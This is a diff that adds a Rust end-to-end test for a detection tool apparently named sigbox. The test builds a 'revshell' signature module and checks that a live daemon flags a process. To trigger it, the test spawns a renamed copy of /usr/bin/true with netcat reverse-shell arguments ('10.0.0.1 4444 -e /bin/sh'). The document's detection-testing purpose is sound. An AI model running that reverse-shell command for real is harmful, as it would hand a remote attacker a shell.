@@ -40,3 +40,70 @@ fn bench_measures_a_module_on_recorded_events() {
         "{stderr}"
     );
 }
+
+/// From an empty directory: `sigbox new`, `make test` (build and vectors),
+/// then the module into a running daemon's directory and a live finding.
+#[test]
+fn a_new_project_builds_passes_its_vectors_and_detects_live() {
+    let dir = temp_dir("author-new");
+    let out = sigbox(&["new", "revshell", "--dir", dir.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let project = dir.join("revshell");
+    // The guest build's target directory: std (built from source on the
+    // Debian toolchain) is reused instead of rebuilt for minutes.
+    let make = std::process::Command::new("make")
+        .args(["-C", project.to_str().unwrap(), "test"])
+        .env(
+            "CARGO_TARGET_DIR",
+            sigbox_e2e::repo_root().join("guest-signatures/target"),
+        )
+        .env("SIGBOX", sigbox_e2e::sigbox_bin())
+        .output()
+        .expect("running make");
+    let stdout = text(&make.stdout);
+    assert!(
+        make.status.success(),
+        "make test failed:\n{stdout}{}",
+        text(&make.stderr)
+    );
+    assert!(
+        stdout.contains("REVSHELL (revshell.wasm): 5 passed, 0 failed"),
+        "{stdout}"
+    );
+
+    // Live: an empty signatures directory, then the new module dropped in.
+    let signatures = temp_dir("author-live");
+    let Some(daemon) = crate::live::start_live(&signatures) else {
+        return;
+    };
+    std::fs::copy(
+        project.join("revshell.wasm"),
+        signatures.join("revshell.wasm"),
+    )
+    .unwrap();
+    assert!(
+        daemon.wait_for_stderr(
+            std::time::Duration::from_secs(60),
+            "loaded signature REVSHELL"
+        ),
+        "{}",
+        daemon.stderr_text()
+    );
+    let nc = temp_dir("author-nc").join("nc");
+    std::fs::copy("/usr/bin/true", &nc).unwrap();
+    let mut child = crate::live::spawn_fresh_copy(
+        std::process::Command::new(&nc).args(["10.0.0.1", "4444", "-e", "/bin/sh"]),
+    );
+    let pid = child.id();
+    assert!(child.wait().unwrap().success());
+    let seen = daemon.wait_for_stdout(std::time::Duration::from_secs(60), |lines| {
+        lines.iter().any(|l| {
+            serde_json::from_str::<serde_json::Value>(l).is_ok_and(|f| {
+                f["hostProcessId"] == pid
+                    && f["metadata"]["Properties"]["signatureID"] == "REVSHELL"
+            })
+        })
+    });
+    let stopped = daemon.stop();
+    assert!(seen, "no live REVSHELL finding:\n{}", stopped.stderr);
+}
